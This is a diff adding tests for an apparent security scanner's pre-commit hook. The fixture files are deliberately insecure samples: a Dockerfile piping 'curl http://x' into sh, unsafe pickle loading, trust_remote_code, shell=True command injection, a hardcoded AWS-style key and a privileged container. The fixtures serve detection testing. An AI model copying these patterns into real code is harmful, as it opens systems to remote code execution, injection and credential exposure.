@@ -117,3 +117,59 @@ def test_whole_repository_hook_is_concise(cli, tmp_path: Path) -> None:
     assert result.out.splitlines()[0].startswith("train.py:3: SEC001 [error]")
     assert len(result.out.splitlines()) == 2
     assert "Maturity" not in result.out and "Missing for Level" not in result.out
+
+
+NOTEBOOK = (
+    '{"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": '
+    '["import pickle\\n", "import pandas as pd\\n", "df = pd.read_csv(\'users.csv\')\\n", '
+    '"rows = pickle.load(open(\'rows.pkl\', \'rb\'))\\n", "df.head()"], "outputs": '
+    '[{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": '
+    '{"text/html": ["<table><tr><td>alice@example.com</td></tr></table>"]}}]}], '
+    '"metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
+)
+VIOLATIONS = {
+    "train.py": (
+        "import pickle\nimport subprocess\n\nfrom transformers import AutoModel\n\n"
+        "model = AutoModel.from_pretrained('org/model', trust_remote_code=True)\n"
+        "state = pickle.load(open('state.pkl', 'rb'))\n"
+        "subprocess.call('ls ' + state, shell=True)\n"
+    ),
+    "settings.py": 'API_KEY = "AKIA' + "Q7ZP4LM2XW9RTB3K" + '"\n',
+    "explore.ipynb": NOTEBOOK,
+    "Dockerfile": "FROM python:latest\nUSER root\nRUN curl http://x | sh\n",
+    "k8s/deploy.yaml": (
+        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: serve}\nspec:\n"
+        "  template:\n    spec:\n      containers:\n        - name: serve\n"
+        "          image: serve:latest\n          securityContext: {privileged: true}\n"
+    ),
+    "models/model.pkl": b"\x80\x04\x95\x00",
+    "requirements.txt": "torch==2.0\npyyaml\n",
+}
+UNCHANGED = {"old.py": BAD, "models/old.pkl": b"\x80\x04\x95\x00", "ml/eval.py": BAD}
+
+
+def test_hook_reports_exactly_what_a_full_scan_finds_in_the_given_files(
+    cli, tmp_path: Path
+) -> None:
+    """The hook may evaluate less of the repository than a scan, never report otherwise:
+    its findings are a full scan's findings in the files passed, finding for finding."""
+    repo = make_repo(tmp_path / "r", {**VIOLATIONS, **UNCHANGED})
+    changed = sorted(VIOLATIONS)
+    for policy in ("security", "default"):
+        full = cli(["scan", ".", "--no-config", "--offline", "-p", policy, "-f", "json"], cwd=repo)
+        assert full.code == 1, full.err
+        expected = [f for f in full.json()["findings"] if f["path"] in changed]
+        assert {f["path"] for f in full.json()["findings"]} >= set(UNCHANGED), policy
+        hooked = cli(["hook", "--no-config", "-p", policy, "-f", "json", *changed], cwd=repo)
+        assert hooked.code == 1, hooked.err
+        assert hooked.json()["findings"] == expected, policy
+        rules = {f["rule_id"] for f in expected}
+        for rule in ("SEC001", "SEC002", "SEC003", "SEC004", "SEC005", "SEC007", "BAN602"):
+            assert rule in rules, (policy, rule)
+        assert {f["path"] for f in expected} >= set(changed) - {"requirements.txt"}, policy
+        whole = cli(
+            ["scan", ".", "--no-config", "--offline", "-p", policy, "-f", "concise"], cwd=repo
+        )
+        shown = [line for line in whole.out.splitlines() if line.split(":")[0] in changed]
+        lines = cli(["hook", "--no-config", "-p", policy, *changed], cwd=repo).out.splitlines()
+        assert lines[:-1] == shown, policy
